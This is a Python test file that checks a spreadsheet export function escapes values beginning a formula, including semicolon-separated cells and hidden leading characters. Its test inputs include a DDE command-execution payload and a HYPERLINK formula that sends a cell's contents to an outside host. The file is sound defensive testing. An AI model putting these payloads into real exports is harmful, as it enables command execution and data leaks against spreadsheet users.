"""Text in a table stays text, whatever opens it."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from grader.export.cells import text
from tests.reports.test_quoting import DANGEROUS

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    " =1+1",
    "\u00a0=1",
    '"=1+1"',
    "'=1+1",
    "“=1”",
    "＝1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://e.org?"&A1,"x")',
]
ACTS = re.compile(r"[=+\-@＝＋－＠]")
QUOTES = " \u00a0\"'`´‘’‚“”„«»"


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_marked_as_text(formula: str) -> None:
    assert text(formula) == f"'{formula}"


@pytest.mark.parametrize("formula", ["\t=1", "\r=1", "\n=1", "\u200b=1", "\ufeff=1"])
def test_what_does_not_show_is_spelled_out_before_a_formula(formula: str) -> None:
    assert text(formula).startswith("\\")


def test_a_new_cell_of_a_spreadsheet_with_semicolons_is_looked_at_too() -> None:
    assert text("Doe;=1+1") == "Doe;'=1+1"
    assert text('Doe"; "@x') == 'Doe";\' "@x'


@pytest.mark.parametrize(
    "value",
    ["Anne-Marie", "a=b", "ada+hw@example.org", "", "007", "1e5", "漢字", "O'Neil"],
)
def test_other_text_is_left_alone(value: str) -> None:
    assert text(value) == value


@given(st.text(st.characters(), max_size=20))
@example('"";;  "=')
def test_no_text_at_all_begins_a_formula(value: str) -> None:
    for cell in text(value).split(";"):
        assert not ACTS.match(cell.lstrip(QUOTES)) or cell.startswith("'")


@pytest.mark.parametrize("what", DANGEROUS)
def test_a_text_stays_on_its_line(what: str) -> None:
    value, spelled = DANGEROUS[what]

    assert text(value) == spelled
